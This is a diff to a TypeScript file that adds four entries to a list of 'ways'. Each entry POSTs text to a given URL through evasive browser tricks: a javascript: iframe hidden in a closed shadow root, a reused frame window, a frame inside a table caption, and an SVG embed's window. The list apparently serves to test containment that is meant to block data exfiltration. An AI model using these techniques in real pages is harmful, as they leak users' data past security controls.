@@ -357,6 +357,41 @@ export const WAYS: readonly Way[] = [
     frame.src = `javascript:fetch(${JSON.stringify(to)},{method:'POST',body:${JSON.stringify(text)}});void 0`
     document.body.append(frame)
   }),
+  way('a frame in a shadow with a script for its address', (text, { to }) => {
+    const frame = document.createElement('iframe')
+    frame.src = `javascript:fetch(${JSON.stringify(to)},{method:'POST',body:${JSON.stringify(text)}});void 0`
+    const host = document.createElement('div')
+    document.body.append(host)
+    host.attachShadow({ mode: 'closed' }).append(frame)
+  }),
+  way('a kept frame whose next document is on its way', async (text, { to }) => {
+    const frame = document.createElement('iframe')
+    document.body.append(frame)
+    const kept = frame.contentWindow as Window & typeof globalThis
+    const before = kept.document
+    frame.src = '/headers-alone'
+    while (kept.document === before) await new Promise(resolve => setTimeout(resolve, 2))
+    return kept.fetch(to, { method: 'POST', body: text })
+  }),
+  way('a frame in the caption of a table', (text, { to }) => {
+    const frame = document.createElement('iframe')
+    frame.src = '/loose-later'
+    const table = document.createElement('table')
+    document.body.append(table)
+    const caption = document.createElement('caption')
+    caption.append(frame)
+    table.caption = caption
+    return window[window.length - 1]?.fetch(to, { method: 'POST', body: text, keepalive: true })
+  }),
+  way('a picture of a page that is embedded', async (text, { to }) => {
+    const embedded = document.createElement('embed')
+    embedded.type = 'image/svg+xml'
+    embedded.src = '/drawing.svg'
+    document.body.append(embedded)
+    while (!embedded.getSVGDocument()?.defaultView) await new Promise(resolve => setTimeout(resolve, 20))
+    const inner = embedded.getSVGDocument()?.defaultView as Window & typeof globalThis
+    return inner.fetch(to, { method: 'POST', body: text })
+  }),
   way('a frame’s own document', (text, { to }) => {
     const frame = document.createElement('iframe')
     frame.srcdoc = `<script>fetch(${JSON.stringify(to)},{method:'POST',body:${JSON.stringify(text)}})</script>`
